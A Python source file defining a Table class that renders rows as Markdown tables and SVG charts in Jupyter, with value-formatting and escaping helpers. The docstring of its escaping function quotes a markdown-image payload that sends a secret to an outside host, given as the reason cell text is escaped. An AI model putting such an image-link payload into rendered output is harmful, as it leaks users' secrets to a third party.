"""Tables (lists of dicts) that print as Markdown and draw as SVG charts in Jupyter."""

from __future__ import annotations

import math
import re
from collections.abc import Iterable, Mapping, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, Literal, TypeGuard

from inhouse.charts import bar_chart, line_chart

_SPECIAL = re.compile(r"[\\`\[\]<>|]")


class SVG:
    """An SVG image; Jupyter displays it through `_repr_svg_`."""

    def __init__(self, text: str) -> None:
        self.text = text

    def _repr_svg_(self) -> str:
        return self.text

    def __str__(self) -> str:
        return self.text

    def save(self, path: str | Path) -> None:
        """Write the image to `path` (an .svg file)."""
        Path(path).write_text(self.text, encoding="utf-8")


class Table(list[dict[str, Any]]):
    """Rows as plain dicts (a list, no pandas); `meta` holds what the report says about them
    as a whole (its window, its grouping, its totals)."""

    def __init__(
        self, rows: Iterable[dict[str, Any]] = (), meta: Mapping[str, Any] | None = None
    ) -> None:
        super().__init__(rows)
        self.meta: dict[str, Any] = dict(meta or {})

    def columns(self) -> list[str]:
        """Every key of every row, in the order they first appear."""
        seen: dict[str, None] = {}
        for row in self:
            seen.update(dict.fromkeys(row))
        return list(seen)

    def to_markdown(self, columns: Sequence[str] | None = None, max_chars: int = 120) -> str:
        """A Markdown table: numbers right-aligned, `*_at` times as UTC dates, lists and
        dicts inline, long text cut at `max_chars`."""
        names = list(columns) if columns is not None else self.columns()
        if not names:
            return "(no rows)"
        right = {name for name in names if _numeric_column(self, name)}
        lines = [
            "| " + " | ".join(_escape(name) for name in names) + " |",
            "|" + "|".join("---:" if name in right else "---" for name in names) + "|",
        ]
        for row in self:
            cells = (_cell(name, row.get(name), max_chars) for name in names)
            lines.append("| " + " | ".join(cells) + " |")
        return "\n".join(lines)

    def _repr_markdown_(self) -> str:
        return self.to_markdown()

    def chart(
        self,
        value: str | Sequence[str],
        *,
        label: str | None = None,
        kind: Literal["bar", "line"] = "bar",
        title: str | None = None,
        unit: str = "",
    ) -> SVG:
        """A bar chart of the column `value` per row (or a line chart of one or more value
        columns), labelled by the column `label` (default: the first column)."""
        label = label or (self.columns()[:1] or ["label"])[0]
        values = [value] if isinstance(value, str) else list(value)
        labels = [_plain(row.get(label)) for row in self]
        title = title or f"{', '.join(values)} by {label}"
        if kind == "bar":
            if len(values) != 1:
                raise ValueError("a bar chart shows one value column; use kind='line' for more")
            return SVG(bar_chart(title, labels, self._numbers(values[0]), unit))
        series = {name: self._numbers(name) for name in values}
        return SVG(line_chart(title, labels, series, unit))

    def _numbers(self, column: str) -> list[float]:
        found = [row.get(column) for row in self]
        values = [float(v) for v in found if _is_number(v)]
        if len(values) != len(found):
            raise ValueError(f"column {column!r} does not hold a number in every row")
        return values


def _is_number(value: object) -> TypeGuard[float]:
    return isinstance(value, int | float) and not isinstance(value, bool)


def _numeric_column(table: Table, name: str) -> bool:
    present = [row[name] for row in table if row.get(name) is not None]
    return bool(present) and not name.endswith("_at") and all(map(_is_number, present))


def _cell(name: str, value: object, max_chars: int) -> str:
    if name.endswith("_at") and _is_number(value):
        moment = datetime.fromtimestamp(value, UTC)
        return moment.strftime("%Y-%m-%d %H:%M")
    text = _plain(value)
    if len(text) > max_chars:
        text = text[: max_chars - 1] + "…"
    return _escape(text)


def _plain(value: object) -> str:
    """A value as one line of text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int):
        return f"{value:,}"
    if isinstance(value, float):
        return _decimal(value)
    if isinstance(value, Mapping):
        return ", ".join(f"{k}={_plain(v)}" for k, v in value.items() if v is not None)
    if isinstance(value, list | tuple):
        return ", ".join(_plain(v) for v in value)
    return " ".join(str(value).split())


def _decimal(value: float) -> str:
    """Two decimals from 1 up; below, three significant digits, never in e-notation (a cost
    of 0.0000952 USD reads as such)."""
    if abs(value) >= 1 or value == 0 or not math.isfinite(value):
        return f"{value:,.2f}"
    digits = min(8, 2 - math.floor(math.log10(abs(value))))
    return f"{value:.{digits}f}"


def _escape(text: str) -> str:
    """Text as Markdown shows it literally: no HTML, image, link or code from a cell (a
    document's snippet could otherwise load `![x](http://elsewhere/?q=SECRET)` in Jupyter)."""
    return _SPECIAL.sub(r"\\\g<0>", text)
